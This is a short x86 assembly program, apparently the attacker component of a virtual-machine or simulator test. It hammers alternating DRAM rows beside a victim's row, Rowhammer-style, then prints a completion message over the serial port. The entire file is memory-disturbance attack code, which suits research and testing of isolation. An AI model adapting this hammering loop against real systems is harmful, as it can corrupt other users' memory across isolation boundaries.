; The attacker. It reads rows of its own memory in turn, nothing else: with a row in between, so that no aggressor is
; refreshed by another's neighbourhood. The last of them lies beside the victim's last row.

bits 32
org 0x0010_0000

%define ROW     0x2000                  ; bytes of a row
%define COM1    0x3F8

start:
        mov     ecx, ROUNDS
.round: mov     esi, (AGGRESSORS - 1) * 2 * ROW
.next:  mov     eax, [esi]              ; another row of the same bank each time: close, open, read
        sub     esi, 2 * ROW
        jns     .next                   ; the last is guest-physical 0: the row beside the victim
        dec     ecx
        jnz     .round
        mov     esi, text
.print: lodsb
        test    al, al
        jz      .done
        mov     dx, COM1
        out     dx, al
        jmp     .print
.done:  cli
        hlt

text:   db 'attacker: done', 10, 0
